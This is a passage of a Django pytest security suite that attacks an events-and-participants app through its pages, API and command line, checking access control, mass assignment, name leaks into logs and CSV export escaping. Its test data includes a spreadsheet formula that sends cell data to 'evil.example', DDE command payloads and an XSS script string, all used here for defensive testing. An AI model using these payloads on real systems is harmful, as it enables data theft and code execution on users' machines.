"""An attacker's review of events and participants (OWASP ASVS 5.0 level 2): each test is one attack
(or a family of them, parametrised) by a user of some role, through the pages, the API, the report
form's "take" button or the command line, and asserts the refusal, the escaping or the absence.

The attackers: MIA's focal point (another agency; also a partner of one of MoD's events), MoD's
approver (the organising agency, but no writer), an evaluator (reads everything, no people), an NGO
contributor of another organisation, anonymous visitors, and MoD's own focal point where the attack is
on the data (formulas, scripts, files that lie, locked periods). The canaries are a participant's
name and organisation: they must never reach anyone but the organising agency and coordinators, and
never a log line, an audit row, an error message or a URL.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.utils import timezone
from openpyxl import Workbook

from wpsnap.accounts.models import Organisation
from wpsnap.core.models import AuditAction, AuditEvent
from wpsnap.registries import page_selectors
from wpsnap.registries.models import Event, EventFile, Participant, ParticipantCount, ParticipantImport
from wpsnap.registries.services.events import EventInput, counts_save, event_create, event_file_add
from wpsnap.registries.services.participants import participants_add_rows
from wpsnap.reporting import services as reporting
from wpsnap.reporting.disaggregation import TOTAL
from wpsnap.reporting.services import ReportInput

from ..api import token_client
from ..conftest import fields_of, messages_of, problems_of
from .conftest import sign_in

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
CANARY = "Zərifə Kanareykova"
CANARY_AFFILIATION = "Kanareyka Shelter No 7"
OTHER_NAME = "Bəxtiyar Gizliyev"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
XSS = '"><script>alert("x")</script><img src=x onerror=alert(1)>'
ROWS = "sex,age\nwomen,23\n"


@pytest.fixture(autouse=True)
def private_files(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path), "base_url": None},
        },
    }


def _mia_activity(plan):
    mia, mod = (Organisation.objects.get(country="AZ", key=key) for key in ("mia", "mod"))
    theirs = {a.pk for a in page_selectors.reportable_activities(plan, mod)}
    return next(a for a in page_selectors.reportable_activities(plan, mia) if a.pk not in theirs)


def _event(plan, actor, activity, *, title="A training", year=2021, participation="list", **kw):
    return event_create(
        actor=actor,
        plan=plan,
        data=EventInput(
            kind=kw.pop("kind", "training"),
            title=title,
            starts_on=date(year, 3, 10),
            ends_on=date(year, 3, 11),
            activities=[activity],
            participation=participation,
            **kw,
        ),
    )


@pytest.fixture
def world(events_plan, people, training, make_user):
    """MoD's training (A) with the canary participant; a second MoD event (B); MIA's own event (C);
    an MoD event with MIA as partner; an MoD event kept as counts; a file on A and on C."""
    focal, mia_focal = people["focal"], people["other_focal"]
    people["ngo"] = make_user("ngo_contributor", "test-ngo", "ngo")
    activity = training.activities.get()
    participants_add_rows(
        actor=focal,
        event=training,
        rows=[
            {
                "sex": "women",
                "age": 31,
                "name": CANARY,
                "consent": "yes",
                "organisation_or_position": CANARY_AFFILIATION,
            },
            {"sex": "men", "age": 44, "district": "baku"},
        ],
    )
    second = _event(events_plan, focal, activity, title="Second MoD training")
    participants_add_rows(
        actor=focal, event=second, rows=[{"sex": "men", "age": 50, "name": OTHER_NAME, "consent": "yes"}]
    )
    theirs = _event(events_plan, mia_focal, _mia_activity(events_plan), title="MIA training")
    participants_add_rows(actor=mia_focal, event=theirs, rows=[{"sex": "women", "age": 29}])
    partnered = _event(
        events_plan, focal, activity, title="Joint training", partners=[mia_focal.organisation]
    )
    participants_add_rows(
        actor=focal, event=partnered, rows=[{"sex": "women", "age": 33, "name": CANARY, "consent": "yes"}]
    )
    counted = _event(
        events_plan, focal, activity, title="Campaign", kind="media_campaign", participation="counts"
    )
    counts_save(actor=focal, event=counted, counts={"sex:women|age:18-24": "7"})
    file_a = event_file_add(actor=focal, event=training, name="agenda.pdf", content=PDF)
    file_c = event_file_add(actor=mia_focal, event=theirs, name="mia.pdf", content=PDF)
    return {
        "a": training,
        "b": second,
        "c": theirs,
        "partnered": partnered,
        "counted": counted,
        "file_a": file_a,
        "file_c": file_c,
        "pa": Participant.objects.filter(event=training).order_by("id").first(),
        "pb": Participant.objects.get(event=second),
        "pc": Participant.objects.get(event=theirs),
    }


def snapshot() -> tuple:
    """Everything an attack could change in the registries."""
    return (
        sorted(
            Event.objects.values_list(
                "id",
                "title",
                "place",
                "starts_on",
                "organiser_id",
                "plan_id",
                "created_by_id",
                "participation",
            )
        ),
        sorted(Event.activities.through.objects.values_list("event_id", "activity_id")),
        sorted(Event.partners.through.objects.values_list("event_id", "organisation_id")),
        sorted(Participant.objects.values_list("id", "event_id", "name", "affiliation", "consent")),
        sorted(EventFile.objects.values_list("id", "event_id")),
        sorted(ParticipantCount.objects.values_list("event_id", "cell", "value")),
        ParticipantImport.objects.count(),
    )


def body(response) -> str:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content).decode("utf-8", "replace")
    return response.content.decode("utf-8", "replace")


def _edit_form(event, **extra) -> dict:
    data = {
        "title": "Changed by an attacker",
        "kind": "training",
        "starts_on": "2021-03-10",
        "ends_on": "2021-03-11",
        "activities": [str(a.pk) for a in event.activities.all()],
        "participation": event.participation,
        "district": "",
        "place": "",
        "content": "",
        "outcomes": "",
        "other_topics": "",
        "issues_raised": "",
        "answers_given": "",
    }
    data.update(extra)
    return data


def _page_attacks(w) -> list[tuple[str, str, dict]]:
    """Every page of MoD's training A, with a request that would change something if let through."""
    a, f, p = w["a"].pk, w["file_a"].pk, w["pa"].pk
    return [
        ("get", f"/events/{a}/edit/", {}),
        ("post", f"/events/{a}/edit/", _edit_form(w["a"])),
        ("get", f"/events/{a}/delete/", {}),
        ("post", f"/events/{a}/delete/", {}),
        ("get", f"/events/{a}/counts/", {}),
        ("post", f"/events/{a}/counts/", {"n-sex-women--age-18-24": "5"}),
        ("post", f"/events/{a}/files/", {"file": io.BytesIO(PDF), "purpose": "agenda"}),
        ("get", f"/events/{a}/files/{f}/", {}),
        ("post", f"/events/{a}/files/{f}/delete/", {}),
        ("get", f"/events/{a}/participants/", {}),
        ("get", f"/events/{a}/participants/import/", {}),
        ("post", f"/events/{a}/participants/import/", {"text": ROWS, "replace": "on"}),
        ("get", f"/events/{a}/participants/clear/", {}),
        ("post", f"/events/{a}/participants/clear/", {}),
        ("get", f"/events/{a}/participants/template.xlsx", {}),
        ("get", f"/events/{a}/participants/template.csv", {}),
        ("get", f"/events/{a}/participants/export.csv", {}),
        ("post", f"/events/{a}/participants/{p}/delete/", {}),
    ]


def _request(client, method: str, url: str, data: dict):
    if "file" in data:
        data = {**data, "file": _named(data["file"].getvalue(), "agenda.pdf")}
    return getattr(client, method)(url, data) if method == "post" else client.get(url)


def _named(content: bytes, name: str) -> io.BytesIO:
    upload = io.BytesIO(content)
    upload.name = name
    return upload


# === 1. IDOR: another agency's ids in the URL, the body and the query string ============================


def test_another_agencys_pages_answer_404_change_nothing_and_are_audited(client, people, world) -> None:
    """MIA's focal point walks every page of MoD's training (18 requests, GET and POST): each answers
    404 as if the event did not exist, nothing changes, and each attempt is in the audit trail."""
    sign_in(client, people["other_focal"])
    before, refused = snapshot(), AuditEvent.objects.filter(action=AuditAction.ACCESS_REFUSED).count()
    attacks = _page_attacks(world)
    answers = {
        url + f" {method}": _request(client, method, url, data).status_code for method, url, data in attacks
    }
    assert set(answers.values()) == {404}, answers
    assert snapshot() == before
    assert AuditEvent.objects.filter(action=AuditAction.ACCESS_REFUSED).count() == refused + len(attacks)


def test_a_participant_of_event_b_through_event_as_address(client, people, world) -> None:
    """MoD's focal point may delete participants of A, but not B's participant (MoD's too) nor C's
    (MIA's) through A's address: 404 and nothing deleted; pages and API alike."""
    sign_in(client, people["focal"])
    api = token_client(people["focal"])
    before = snapshot()
    a = world["a"].pk
    for other in ("pb", "pc"):
        pid = world[other].pk
        assert client.post(f"/events/{a}/participants/{pid}/delete/").status_code == 404
        assert api.delete(f"/api/v1/events/{a}/participants/{pid}/").status_code == 404
    # C's participant through C's own address: MIA's event, not MoD's.
    c, pc = world["c"].pk, world["pc"].pk
    assert client.post(f"/events/{c}/participants/{pc}/delete/").status_code == 404
    assert api.delete(f"/api/v1/events/{c}/participants/{pc}/").status_code == 404
    assert snapshot() == before


def test_a_file_of_another_event_through_an_events_address(client, people, world) -> None:
    """A file id swapped under an event the attacker may see: 404 for download and deletion."""
    sign_in(client, people["focal"])
    a, c, fc, fa = world["a"].pk, world["c"].pk, world["file_c"].pk, world["file_a"].pk
    before = snapshot()
    assert client.get(f"/events/{a}/files/{fc}/").status_code == 404
    assert client.post(f"/events/{a}/files/{fc}/delete/").status_code == 404
    assert client.get(f"/events/{world['b'].pk}/files/{fa}/").status_code == 404
    assert client.post(f"/events/{world['b'].pk}/files/{fa}/delete/").status_code == 404
    assert client.get(f"/events/{c}/files/{fc}/").status_code == 404
    assert snapshot() == before
    # MIA, a partner of the joint training, may see that event's files, not A's through it.
    sign_in(client, people["other_focal"])
    assert client.get(f"/events/{world['partnered'].pk}/files/{fa}/").status_code == 404


API_ATTACKS = [
    ("get", "{e}", None),
    (
        "put",
        "{e}",
        {
            "kind": "training",
            "title": "x",
            "starts_on": "2021-03-10",
            "ends_on": "2021-03-10",
            "activities": ["5.1.2.3"],
        },
    ),
    ("patch", "{e}", {"title": "Changed by an attacker"}),
    ("delete", "{e}", None),
    ("get", "{e}participants/", None),
    ("post", "{e}participants/", {"rows": [{"sex": "women", "age": 20}], "replace": True}),
    ("delete", "{e}participants/{p}/", None),
    ("get", "{e}counts/", None),
    ("put", "{e}counts/", {"counts": {"sex:women|age:18-24": "3"}}),
]


@pytest.mark.parametrize(("method", "path", "payload"), API_ATTACKS)
def test_another_agencys_event_through_the_api_answers_404(people, world, method, path, payload) -> None:
    api = token_client(people["other_focal"])
    before = snapshot()
    url = "/api/v1/events/" + path.format(e=f"{world['a'].pk}/", p=world["pa"].pk)
    response = getattr(api, method)(url, payload, format="json") if payload else getattr(api, method)(url)
    assert response.status_code == 404
    assert CANARY not in body(response)
    assert snapshot() == before


def test_filters_in_the_query_string_do_not_widen_the_scope(client, people, world) -> None:
    """MIA's focal point filters for MoD's events (by key, by activity id): the API lists only the
    joint training MIA was a partner in; the page refuses an organiser it does not offer."""
    api = token_client(people["other_focal"])
    listed = api.get("/api/v1/events/?organiser=mod&page_size=1000").json()
    assert [e["id"] for e in listed["results"]] == [world["partnered"].pk]
    by_activity = api.get(f"/api/v1/events/?activity={world['a'].activities.get().pk}").json()
    assert [e["id"] for e in by_activity["results"]] == [world["partnered"].pk]
    sign_in(client, people["other_focal"])
    page = client.get("/events/?plan=az-2020-2023&organiser=mod")
    assert page.status_code == 200
    assert f'data-event="{world["a"].pk}"' not in body(page)
    assert "Second MoD training" not in body(page)


def test_derived_values_of_another_agency_are_refused(people, world, events_plan) -> None:
    """/api/v1/derived/ for MoD, asked by MIA (by key and by id) and by an NGO contributor: 403; MIA
    about its own agency: 200."""
    period = events_plan.reporting_periods.get(label="2021").pk
    mod = people["focal"].organisation
    for who in ("other_focal", "ngo"):
        api = token_client(people[who])
        for agency in ("mod", str(mod.pk)):
            assert api.get(f"/api/v1/derived/?period={period}&agency={agency}").status_code == 403
    assert (
        token_client(people["other_focal"]).get(f"/api/v1/derived/?period={period}&agency=mia").status_code
        == 200
    )


@pytest.fixture
def report(people, events_plan, world):
    focal = people["focal"]
    activity = world["a"].activities.get()
    started = reporting.report_start(
        actor=focal,
        activity=activity,
        agency=focal.organisation,
        period=events_plan.reporting_periods.get(label="2021"),
    )
    indicator = activity.indicators.get()
    reporting.report_save(
        actor=focal,
        report=started,
        data=ReportInput(progress="completed", done="x", values={indicator.pk: {TOTAL: "1"}}),
    )
    return started


def test_the_take_button_of_another_agencys_report_or_indicator(client, people, report, events_plan) -> None:
    """MIA's focal point presses "take" on MoD's report: 404. MoD's focal point names an indicator of
    another activity: 404. Nothing is saved either way."""
    from wpsnap.reporting.models import IndicatorValue

    before = sorted(IndicatorValue.objects.values_list("report_id", "indicator_id", "cell", "value"))
    indicator = report.activity.indicators.get()
    sign_in(client, people["other_focal"])
    assert client.post(f"/reports/{report.pk}/take/{indicator.pk}/").status_code == 404
    sign_in(client, people["focal"])
    foreign = (
        events_plan.indicators.exclude(activity=report.activity).filter(derivation__isnull=False).first()
    )
    assert foreign is not None
    assert client.post(f"/reports/{report.pk}/take/{foreign.pk}/").status_code == 404
    sign_in(client, people["evaluator"])
    assert client.post(f"/reports/{report.pk}/take/{indicator.pk}/").status_code == 403
    assert sorted(IndicatorValue.objects.values_list("report_id", "indicator_id", "cell", "value")) == before


def test_a_partner_and_an_approver_cannot_write_the_list(client, people, world) -> None:
    """MIA (a partner of the joint training) and MoD's approver try to add, replace and remove
    participants by page and API: refused, nothing changes. Each may see the event, so the pages answer
    403; the API's one participant is outside MIA's scope (404) but within the approver's (403)."""
    joint, a = world["partnered"], world["a"]
    before = snapshot()
    for who, event, one_participant in (("other_focal", joint, 404), ("approver", a, 403)):
        sign_in(client, people[who])
        api = token_client(people[who])
        pid = Participant.objects.filter(event=event).first().pk
        assert (
            client.post(
                f"/events/{event.pk}/participants/import/", {"text": ROWS, "replace": "on"}
            ).status_code
            == 403
        )
        assert client.post(f"/events/{event.pk}/participants/{pid}/delete/").status_code == 403
        assert client.post(f"/events/{event.pk}/participants/clear/").status_code == 403
        assert (
            api.post(
                f"/api/v1/events/{event.pk}/participants/",
                {"rows": [{"sex": "men", "age": 30}], "replace": True},
                format="json",
            ).status_code
            == 403
        )
        assert api.delete(f"/api/v1/events/{event.pk}/participants/{pid}/").status_code == one_participant
        assert api.patch(f"/api/v1/events/{event.pk}/", {"title": "x"}, format="json").status_code == 403
    assert snapshot() == before


def test_the_command_line_applies_the_gate(people, world, tmp_path) -> None:
    """`wpsnap import participants` as MIA's focal point, an evaluator or an unknown user, on MoD's
    event: refused, nothing added."""
    path = tmp_path / "rows.csv"
    path.write_text(ROWS, encoding="utf-8")
    before = snapshot()
    for username in ("mia-focal", "eval", "mod-approver", "nobody"):
        with pytest.raises(CommandError):
            call_command(
                "import", "participants", str(path), "--event", str(world["a"].pk), "--user", username
            )
    assert snapshot() == before


# === 2. Mass assignment =====================================================================================


@pytest.mark.parametrize(
    "extra",
    [
        {"organiser": "mia"},
        {"organiser": {"key": "mia"}},
        {"created_by": 1},
        {"id": 999},
        {"participants": 500},
        {"plan_id": 1},
        {"created_at": "2020-01-01T00:00:00Z"},
    ],
)
def test_api_create_refuses_fields_it_does_not_name(people, events_plan, extra) -> None:
    api = token_client(people["focal"])
    payload = {
        "kind": "training",
        "title": "New",
        "starts_on": "2021-05-01",
        "ends_on": "2021-05-01",
        "activities": ["5.1.2.3"],
        **extra,
    }
    before = Event.objects.count()
    response = api.post("/api/v1/events/", payload, format="json")
    assert response.status_code == 400
    assert next(iter(extra)) in fields_of(response)
    assert Event.objects.count() == before


@pytest.mark.parametrize("extra", [{"organiser": "mia"}, {"plan": "other"}, {"created_by": 3}, {"id": 1}])
def test_api_change_refuses_fields_it_does_not_name(people, world, extra) -> None:
    before = snapshot()
    response = token_client(people["focal"]).patch(f"/api/v1/events/{world['a'].pk}/", extra, format="json")
    assert response.status_code == 400
    assert snapshot() == before


@pytest.mark.parametrize(
    "row",
    [
        {"sex": "women", "age": 20, "event": 1},
        {"sex": "women", "age": 20, "event_id": 1},
        {"sex": "women", "age": 20, "batch": 1},
        {"sex": "women", "age": 20, "id": 1},
        {"sex": "women", "age": 20, "name": "No Consent Given"},
        {"sex": "women", "age": 20, "name": "No Consent Given", "consent": "maybe"},
        {"sex": "women", "age": 20, "name": "No Consent Given", "consent": False},
    ],
)
def test_api_rows_cannot_set_the_event_the_batch_or_a_name_without_consent(people, world, row) -> None:
    before = snapshot()
    response = token_client(people["focal"]).post(
        f"/api/v1/events/{world['a'].pk}/participants/", {"rows": [row]}, format="json"
    )
    assert response.status_code == 400
    assert "No Consent Given" not in body(response)
    assert snapshot() == before


def test_api_file_upload_and_counts_refuse_extra_fields(people, world) -> None:
    api = token_client(people["focal"])
    before = snapshot()
    upload = api.post(
        f"/api/v1/events/{world['a'].pk}/participants/",
        {"file": _named(ROWS.encode(), "rows.csv"), "event": world["c"].pk},
        format="multipart",
    )
    assert upload.status_code == 400
    counts = world["counted"].pk
    for payload in (
        {"counts": {"sex:women|age:18-24": "3"}, "event": world["c"].pk},
        {"counts": {"sex:women|age:18-24|district:baku": "3"}},
        {"counts": {"": "99"}},
        {"counts": {"sex:women|age:18-24": "-3"}},
    ):
        assert api.put(f"/api/v1/events/{counts}/counts/", payload, format="json").status_code == 400
    assert snapshot() == before


def test_the_event_form_ignores_organiser_plan_and_creator(client, people, world, events_plan) -> None:
    """POSTed organiser, plan, creator and id are not fields of the form: the event stays MoD's, in its
    plan, made by its creator; another agency's activity is a problem next to its field."""
    sign_in(client, people["focal"])
    a = world["a"]
    mia = Organisation.objects.get(country="AZ", key="mia")
    forged = _edit_form(
        a,
        organiser=str(mia.pk),
        organiser_id=str(mia.pk),
        plan="1",
        created_by=str(people["coordinator"].pk),
        id="1",
    )
    assert client.post(f"/events/{a.pk}/edit/", forged).status_code == 302
    a.refresh_from_db()
    assert (a.organiser_id, a.created_by_id, a.title) == (
        people["focal"].organisation_id,
        people["focal"].pk,
        "Changed by an attacker",
    )
    before = snapshot()
    theirs = _edit_form(a, activities=[str(_mia_activity(events_plan).pk)])
    assert client.post(f"/events/{a.pk}/edit/", theirs).status_code == 400
    assert (
        client.post(f"/events/new/?plan={events_plan.slug}", {**theirs, "organiser": str(mia.pk)}).status_code
        == 400
    )
    # Switching a list with participants to counts would orphan them: refused.
    assert client.post(f"/events/{a.pk}/edit/", _edit_form(a, participation="counts")).status_code == 400
    assert snapshot() == before


def test_coordinators_rules_are_not_for_focal_points(client, people, world, events_plan) -> None:
    indicator = world["a"].activities.get().indicators.get()
    sign_in(client, people["focal"])
    response = client.post(f"/events/rules/{indicator.pk}/", {"measure": "events", "kinds": ["training"]})
    assert response.status_code == 403
    assert token_client(people["evaluator"]).get("/api/v1/events/").status_code == 200


def test_api_text_is_no_longer_than_the_form_takes(client, people, world) -> None:
    """Content, outcomes, issues and answers over the form's 5,000 characters: refused by the API too,
    naming the field (an event recorded by the API must stay editable on its page)."""
    api = token_client(people["focal"])
    before = snapshot()
    for field in ("content", "outcomes", "issues_raised", "answers_given"):
        response = api.patch(f"/api/v1/events/{world['a'].pk}/", {field: "x" * 5001}, format="json")
        assert response.status_code == 400
        assert fields_of(response)[0] == field
    assert snapshot() == before


# === 3. Privilege escalation: who can read the people ======================================================


def _reads(world, report_pk: int | None = None) -> list[str]:
    a = world["a"].pk
    urls = [
        "/events/?plan=az-2020-2023",
        f"/events/{a}/",
        f"/events/{a}/participants/",
        f"/events/{a}/participants/export.csv",
        f"/events/{a}/participants/import/",
        f"/events/{a}/participants/clear/",
        f"/events/{a}/delete/",
        f"/events/{world['partnered'].pk}/",
        "/events/rules/",
        "/api/v1/events/",
        f"/api/v1/events/{a}/",
        f"/api/v1/events/{a}/participants/",
        f"/api/v1/events/{a}/counts/",
        f"/api/v1/events/{world['partnered'].pk}/participants/",
        "/api/v1/schema/",
        "/accounts/audit/",
        f"/accounts/audit/registries.event/{a}/",
        "/api/v1/audit/",
        "/admin/",
        "/admin/registries/participant/",
        "/admin/core/auditevent/",
    ]
    if report_pk:
        urls += [f"/reports/{report_pk}/edit/", f"/reports/{report_pk}/", f"/reports/{report_pk}/history/"]
    return urls


# Where a role may read the canary name: the organising agency on the list page; coordinators also
# in the export and the API lists (names leave the platform only by a coordinator's hand).
LIST = "/events/{a}/participants/"
NAMES_ALLOWED = {
    "focal": {LIST},
    "approver": {LIST},
    "coordinator": {
        LIST,
        "/events/{a}/participants/export.csv",
        "/api/v1/events/{a}/participants/",
        "/api/v1/events/{p}/participants/",
    },
    "evaluator": set(),
    "other_focal": set(),
    "ngo": set(),
}


@pytest.mark.parametrize("role", list(NAMES_ALLOWED))
def test_names_and_organisations_reach_only_those_who_may_see_them(
    client, people, world, report, role
) -> None:
    """Every read route (pages, export, API, counts, derived, audit, admin, schema, report form) as each
    role: the canary's name appears only where the role may see it, and the people's organisations
    only for the organising agency and coordinators."""
    sign_in(client, people[role])
    api = token_client(people[role])
    a, p = world["a"].pk, world["partnered"].pk
    allowed = {rule.format(a=a, p=p) for rule in NAMES_ALLOWED[role]}
    period = world["a"].plan.reporting_periods.get(label="2021").pk
    seen = {}
    for url in [*_reads(world, report.pk), f"/api/v1/derived/?period={period}&agency=mod"]:
        client_for = api if url.startswith("/api/") else client
        response = client_for.get(url)
        seen[url] = (response.status_code, CANARY in body(response), CANARY_AFFILIATION in body(response))
    leaks = [url for url, (_status, named, _affiliation) in seen.items() if named and url not in allowed]
    assert leaks == [], seen
    organisations = [url for url, (_s, _n, affiliation) in seen.items() if affiliation]
    if role in ("evaluator", "other_focal", "ngo"):
        assert organisations == [], seen
    # The name is there where it should be (the check above is not passing by accident).
    if role in ("focal", "approver", "coordinator"):
        assert seen[f"/events/{a}/participants/"][1]
    if role == "coordinator":
        assert (
            seen[f"/api/v1/events/{a}/participants/"][1] and seen[f"/events/{a}/participants/export.csv"][1]
        )
    if role in ("focal", "approver"):
        assert not seen[f"/api/v1/events/{a}/participants/"][1]
        assert not seen[f"/events/{a}/participants/export.csv"][1]


def test_evaluators_and_partners_are_refused_the_lists(client, people, world) -> None:
    """The evaluator: 403 on the list, the export and the API list (audited); MIA as a partner: 404 on
    the joint training's list and export, 403 on its API list."""
    a, joint = world["a"].pk, world["partnered"].pk
    sign_in(client, people["evaluator"])
    for url in (f"/events/{a}/participants/", f"/events/{a}/participants/export.csv"):
        assert client.get(url).status_code == 403
    assert token_client(people["evaluator"]).get(f"/api/v1/events/{a}/participants/").status_code == 403
    sign_in(client, people["other_focal"])
    for url in (f"/events/{joint}/participants/", f"/events/{joint}/participants/export.csv"):
        assert client.get(url).status_code == 404
    assert token_client(people["other_focal"]).get(f"/api/v1/events/{joint}/participants/").status_code == 403
    anonymous = Client()
    for url in (f"/events/{a}/participants/", f"/events/{a}/participants/export.csv", f"/events/{a}/"):
        response = anonymous.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    for url in (
        f"/api/v1/events/{a}/participants/",
        f"/api/v1/events/{a}/",
        "/api/v1/events/",
        "/api/v1/derived/?period=1&agency=mod",
    ):
        assert Client().get(url).status_code == 401


def test_the_admin_has_no_window_on_participants(client, people, world) -> None:
    sign_in(client, people["coordinator"])
    assert client.get("/admin/registries/participant/").status_code == 404
    assert client.get(f"/admin/registries/participant/{world['pa'].pk}/change/").status_code == 404
    assert "participant" not in body(client.get("/admin/")).lower()


def test_the_schema_offers_no_search_by_name(people) -> None:
    """No endpoint of the events API takes a name (or a free-text search) in the query string."""
    schema = Client().get("/api/v1/schema/?format=json")
    spec = json.loads(body(schema)) if schema["Content-Type"].startswith("application/json") else None
    if spec is None:
        import yaml

        spec = yaml.safe_load(body(schema))
    for path, operations in spec["paths"].items():
        if "/events" not in path and "/derived" not in path:
            continue
        for operation in operations.values():
            names = {p["name"] for p in operation.get("parameters", []) if p.get("in") == "query"}
            assert not names & {"name", "q", "search", "participant", "affiliation"}, (path, names)


def test_the_participant_list_ignores_a_name_in_the_query_string(client, people, world) -> None:
    """A name put in the query string searches nothing (names are never looked up by URL): the list is
    the whole list, for the page and the API."""
    sign_in(client, people["focal"])
    for query in ("name=Nobody", "search=Nobody", "q=Nobody", "name__icontains=Nobody"):
        assert CANARY in body(client.get(f"/events/{world['a'].pk}/participants/?{query}"))
        listed = token_client(people["coordinator"]).get(
            f"/api/v1/events/{world['a'].pk}/participants/?{query}"
        )
        assert listed.json()["count"] == 2


# === 4. Names in logs, audit rows and exceptions ============================================================


def test_names_never_reach_the_logs_or_the_audit_trail(client, people, world, caplog, tmp_path) -> None:
    """Every path that handles participants, at DEBUG: imports (page, API rows and file, command),
    a refused import, exports and API reads with names, removals, refused access. Neither the canary's
    name nor organisation is in any log record or audit row."""
    caplog.set_level(logging.DEBUG)
    a = world["a"]
    named = f"sex,age,name,consent,organisation_or_position\nwomen,30,{CANARY},yes,{CANARY_AFFILIATION}\n"
    bad = f"sex,age,name,consent,organisation_or_position\nwomen,250,{CANARY},yes,{CANARY_AFFILIATION}\nx,1,{CANARY},no,{CANARY_AFFILIATION}\n"
    sign_in(client, people["focal"])
    assert client.post(f"/events/{a.pk}/participants/import/", {"text": named}).status_code == 302
    assert client.post(f"/events/{a.pk}/participants/import/", {"text": bad}).status_code == 400
    api = token_client(people["focal"])
    assert (
        api.post(
            f"/api/v1/events/{a.pk}/participants/",
            {"rows": [{"sex": "women", "age": 40, "name": CANARY, "consent": "yes"}]},
            format="json",
        ).status_code
        == 201
    )
    refused = api.post(
        f"/api/v1/events/{a.pk}/participants/",
        {
            "rows": [
                {"sex": "women", "age": 400, "name": CANARY, "consent": "yes"},
                {"sex": "women", "age": 40, "name": CANARY},
            ]
        },
        format="json",
    )
    assert refused.status_code == 400 and CANARY not in body(refused)
    assert (
        api.post(
            f"/api/v1/events/{a.pk}/participants/",
            # The same rows as the page's import: added anyway (the duplicate rule would refuse them).
            {"file": _named(named.encode(), "list.csv"), "allow_duplicate": "true"},
            format="multipart",
        ).status_code
        == 201
    )
    path = tmp_path / "list.csv"
    path.write_text(named, encoding="utf-8")
    call_command(
        "import",
        "participants",
        str(path),
        "--event",
        str(a.pk),
        "--user",
        "mod-focal",
        "--allow-duplicate",
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    path.write_text(bad, encoding="utf-8")
    with pytest.raises(CommandError) as failed:
        call_command("import", "participants", str(path), "--event", str(a.pk), "--user", "mod-focal")
    assert CANARY not in str(failed.value)
    sign_in(client, people["coordinator"])
    assert CANARY in body(client.get(f"/events/{a.pk}/participants/export.csv"))
    assert CANARY in body(token_client(people["coordinator"]).get(f"/api/v1/events/{a.pk}/participants/"))
    sign_in(client, people["other_focal"])
    assert client.post(f"/events/{a.pk}/participants/{world['pa'].pk}/delete/").status_code == 404
    sign_in(client, people["focal"])
    assert client.post(f"/events/{a.pk}/participants/{world['pa'].pk}/delete/").status_code == 302
    assert (
        api.delete(
            f"/api/v1/events/{a.pk}/participants/{Participant.objects.filter(event=a).first().pk}/"
        ).status_code
        == 204
    )
    assert client.post(f"/events/{a.pk}/participants/clear/").status_code == 302

    logged = "\n".join(
        [caplog.text]
        + [f"{record.getMessage()} {record.args!r} {record.__dict__!r}" for record in caplog.records]
    )
    assert caplog.records, "nothing was logged: the check would pass by accident"
    for secret in (CANARY, CANARY_AFFILIATION, "Kanareyk"):
        assert secret not in logged
        rows = [str(row) for row in AuditEvent.objects.values()]
        assert not [row for row in rows if secret in row]


def test_problems_and_exceptions_never_quote_a_name(people, world) -> None:
    """A refused batch names rows and columns; the names in it (too long, without consent, beside a bad
    age) are never quoted, neither in the problems nor in the exception's text."""
    from wpsnap.core.errors import InvalidInput

    rows = [
        {"sex": "women", "age": 250, "name": CANARY, "consent": "yes"},
        {"sex": "women", "age": 20, "name": CANARY},
        {"sex": "women", "age": 20, "name": CANARY + "x" * 300, "consent": "yes"},
        {"sex": "women", "age": 20, "organisation_or_position": CANARY_AFFILIATION + "y" * 300},
    ]
    with pytest.raises(InvalidInput) as refused:
        participants_add_rows(actor=people["focal"], event=world["a"], rows=rows)
    text = str(refused.value) + " ".join(map(repr, refused.value.problems)) + repr(refused.value)
    assert len(refused.value.problems) == 4
    assert CANARY not in text and CANARY_AFFILIATION not in text


# === 5. CSV and formula injection in the export =============================================================

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "Office;=1+1",
    "Office; =HYPERLINK(1)",
    "Office;+cmd|' /C calc'!A0",
    'Office;"=1+1',
    "Office,=1+1",
]


def test_the_export_neutralises_formulas_in_every_cell(client, people, world) -> None:
    """Organisations and names that start a formula (also after a semicolon, the list separator of
    Azerbaijani and Russian Excel, which opens a CSV split on it): no cell of the export, split on a
    comma or on a semicolon, starts with = + - @."""
    rows = [
        {"sex": "women", "age": 30, "organisation_or_position": f, "name": f.strip(), "consent": "yes"}
        for f in FORMULAS
    ]
    participants_add_rows(actor=people["focal"], event=world["b"], rows=rows)
    sign_in(client, people["coordinator"])
    text = body(client.get(f"/events/{world['b'].pk}/participants/export.csv")).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.lstrip().startswith(("=", "+", "-", "@"))]
    # As Excel with ";" as its list separator reads the same lines (quotes or not).
    for line in text.splitlines():
        pieces = [piece.lstrip(' "\t') for piece in line.split(";")]
        assert not [p for p in pieces[1:] if p.startswith(("=", "+", "-", "@"))], line
    # Still one row per person, in the template's columns (the export imports again).
    assert len(list(csv.reader(io.StringIO(text)))) == len(FORMULAS) + 2


# === 6. Scripts in what people type =========================================================================


def test_scripts_in_an_event_are_escaped_on_every_page(client, people, events_plan, world) -> None:
    """A consultation whose title, place, topics, content, outcomes, issues and answers hold markup,
    recorded through the API: every page that shows it escapes it."""
    api = token_client(people["focal"])
    created = api.post(
        "/api/v1/events/",
        {
            "kind": "consultation",
            "title": XSS[:200],
            "starts_on": "2021-04-01",
            "ends_on": "2021-04-01",
            "activities": ["5.1.2.3"],
            "place": XSS,
            "other_topics": XSS,
            "content": XSS,
            "outcomes": XSS,
            "issues_raised": XSS,
            "answers_given": XSS,
        },
        format="json",
    )
    assert created.status_code == 201, created.json()
    pk = created.json()["id"]
    participants_add_rows(
